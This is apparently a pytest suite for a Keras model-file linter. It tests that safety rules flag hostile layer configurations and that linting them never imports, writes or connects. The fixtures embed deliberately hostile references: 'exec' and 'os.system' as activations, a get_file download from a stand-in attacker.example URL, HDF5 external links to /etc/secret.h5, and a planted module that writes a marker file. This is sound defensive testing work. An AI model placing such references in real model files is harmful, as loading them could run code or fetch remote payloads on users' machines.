"""Safety findings for hostile files, and proof that linting one never executes, writes or connects."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from cnnlint.rules import select_rules

from cnnlint.findings import Dataset
from cnnlint.pipeline import LintSettings, lint_source

SAFETY = LintSettings(tuple(select_rules(["S"])))


def write_keras(path: Path, config: dict, weights: bytes | None = None) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        if weights is not None:
            archive.writestr("model.weights.h5", weights)
    return path


def weights_with_links(secret: Path) -> bytes:
    """model.weights.h5 for an Evil layer: one real dataset, plus an external and a soft link to a big one."""
    import h5py

    with h5py.File(secret, "w") as handle:
        handle.create_dataset("data", shape=(1000, 1000), dtype="f4")
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as handle:
        handle.create_dataset("layers/evil/vars/0", shape=(8,), dtype="f4")
        handle["layers/evil/vars/1"] = h5py.ExternalLink(str(secret), "/data")
        handle.create_dataset("big", shape=(1000, 1000), dtype="f4")
        handle["layers/evil/vars/2"] = h5py.SoftLink("/big")
        for name in ("dense", "dense_1"):
            handle.create_group(f"layers/{name}/vars")
    return buffer.getvalue()


def sequential(*layers: dict) -> dict:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 8], "name": "in"}},
        *layers,
    ]}}  # fmt: skip


def dense(name: str, **extra) -> dict:
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 2, **extra}}


def codes(path) -> dict[str, list[str]]:
    report = lint_source(path, Dataset(), SAFETY)
    assert report.error is None, report.error
    out: dict[str, list[str]] = {}
    for f in report.findings:
        out.setdefault(f.code, []).append(f.layer)
    return out


def test_real_lambda_layer(k3, tmp_path):
    model = k3.Sequential([k3.Input((4,)), k3.layers.Lambda(lambda x: x * 2, name="double"), k3.layers.Dense(1)])
    model.save(tmp_path / "lambda.keras")
    assert codes(tmp_path / "lambda.keras") == {"S401": ["double"]}


def test_builtins_function_reference(tmp_path):
    evil = dense("d", activation={"module": "builtins", "class_name": "function", "config": "exec",
                                  "registered_name": "function"})  # fmt: skip
    assert codes(write_keras(tmp_path / "m.keras", sequential(evil)))["S402"] == ["d"]


def test_keras_non_modeling_apis(tmp_path):
    get_file = dense("d1", kernel_initializer={"module": "keras.utils", "class_name": "function", "config": "get_file"})
    unsafe = dense("d2", bias_initializer={"module": "keras.config", "class_name": "function",
                                           "config": "enable_unsafe_deserialization"})  # fmt: skip
    found = codes(write_keras(tmp_path / "m.keras", sequential(get_file, unsafe)))
    assert sorted(found["S403"]) == ["d1", "d2"]


def test_files_and_urls(tmp_path):
    tfsm = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "sm", "filepath": "/etc/x"}}
    lookup = {"module": "keras.layers", "class_name": "StringLookup",
              "config": {"name": "lookup", "vocabulary": "/data/vocab.txt"}}  # fmt: skip
    url = dense("d", kernel_initializer={"module": "keras.initializers", "class_name": "Constant",
                                         "config": {"value": "https://attacker.example/payload"}})  # fmt: skip
    found = codes(write_keras(tmp_path / "m.keras", sequential(tfsm, lookup, url)))
    assert sorted(found["S404"]) == ["d", "lookup", "sm"]


def test_custom_registered_object(k3, tmp_path):
    @k3.saving.register_keras_serializable(package="cnnlint_test")
    class Doubler(k3.layers.Layer):
        def call(self, x):
            return x * 2

    model = k3.Sequential([k3.Input((4,)), Doubler(name="dbl"), k3.layers.Dense(1)])
    model.save(tmp_path / "custom.keras")
    found = codes(tmp_path / "custom.keras")
    assert found.get("S405") == ["dbl"] and "S402" in found  # the module is the test module, outside Keras


def test_hdf5_external_link(k3, tmp_path):
    import h5py

    model = k3.Sequential([k3.Input((4,)), k3.layers.Dense(1)])
    model.save(tmp_path / "m.h5")
    with h5py.File(tmp_path / "m.h5", "a") as handle:
        handle["model_weights"]["evil"] = h5py.ExternalLink("/etc/secret.h5", "/data")
    found = lint_source(tmp_path / "m.h5", Dataset(), SAFETY)
    finding = next(f for f in found.findings if f.code == "S406")
    assert "/etc/secret.h5" in finding.evidence["links"][0]


def test_keras_applications_are_clean(k3):
    from cnnlint.readers import raw_from_dict

    for name in ("MobileNetV3Small", "ConvNeXtTiny", "InceptionResNetV2", "EfficientNetB0"):
        model = getattr(k3.applications, name)(weights=None)
        report = lint_source(raw_from_dict(json.loads(model.to_json())), Dataset(), SAFETY)
        assert report.findings == [], (name, report.findings)
        k3.backend.clear_session()


def test_linting_never_imports_writes_or_connects(tmp_path):
    """An audit hook watches the whole lint of a hostile file: no module named in it is imported,
    no file is opened for writing, no socket connects."""
    marker = tmp_path / "pwned"
    (tmp_path / "evil_module_cnnlint.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n")
    config = sequential(
        {"module": "evil_module_cnnlint", "class_name": "Evil", "config": {"name": "evil"}, "registered_name": "x>Evil"},
        dense("d", activation={"module": "evil_module_cnnlint", "class_name": "function", "config": "run"}),
        dense("e", kernel_initializer={"module": "keras.utils", "class_name": "function", "config": "get_file",
                                       "url": "https://attacker.example/x"}),
    )  # fmt: skip
    model = write_keras(tmp_path / "hostile.keras", config, weights_with_links(tmp_path / "secret.h5"))
    script = textwrap.dedent(f"""
        import sys
        events = []
        def hook(event, args):
            if event == "open" and isinstance(args[0], int):
                pass  # a file descriptor, not a path: the pipe to cnnlint's own h5py child
            elif event == "open" and len(args) > 1 and isinstance(args[1], str) and any(c in args[1] for c in "wax+"):
                events.append(("write", str(args[0])))
            elif event == "subprocess.Popen" and args[0] == "uname" and list(args[1]) == ["uname", "-p"]:
                pass  # importing h5py asks platform.processor(), which runs `uname -p` on Linux: not from the file
            elif event == "subprocess.Popen" and list(args[1])[:-1] == CHILD[:-1]:
                pass  # cnnlint's own h5py reader for a file the pure-Python walk declines (readers/hdf5_isolate.py)
            elif event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "os.exec"):
                events.append((event, str(args[:2])))
            elif event == "import" and "evil_module" in str(args[0]):
                events.append(("import", str(args[0])))
        from cnnlint.readers.hdf5_isolate import child_command
        CHILD = child_command()
        sys.addaudithook(hook)
        sys.path.insert(0, {str(tmp_path)!r})
        from cnnlint.cli import main
        try:
            main([{str(model)!r}, "--format", "json", "--samples", "100"])
        except SystemExit as exc:
            code = exc.code
        print("EVENTS", events, "CODE", code, file=sys.stderr)
    """)
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert "EVENTS [] CODE 1" in result.stderr, result.stderr[-2000:]
    assert not marker.exists()
    report = json.loads(result.stdout)["models"][0]
    assert {"S402", "S403", "S404", "S405"} <= {f["code"] for f in report["findings"]}
    evil = next(layer for layer in report["model"]["layers"] if layer["path"] == "evil")
    assert evil["counted"] and evil["trainable_params"] == 8  # the linked million values were not followed


def test_confirm_refuses_foreign_references(tmp_path):
    from cnnlint.rules.safety import unsafe_reasons

    config = sequential(dense("d", activation={"module": "os", "class_name": "function", "config": "system"}))
    assert unsafe_reasons(config) and "os" in unsafe_reasons(config)[0]
    assert unsafe_reasons(sequential(dense("ok"))) == []


@pytest.mark.parametrize("rule", ["S401", "S402", "S403", "S404", "S405", "S406", "S407", "S408"])
def test_safety_rules_are_registered(rule):
    from cnnlint.rules import RULES

    assert RULES[rule].category == "safety"
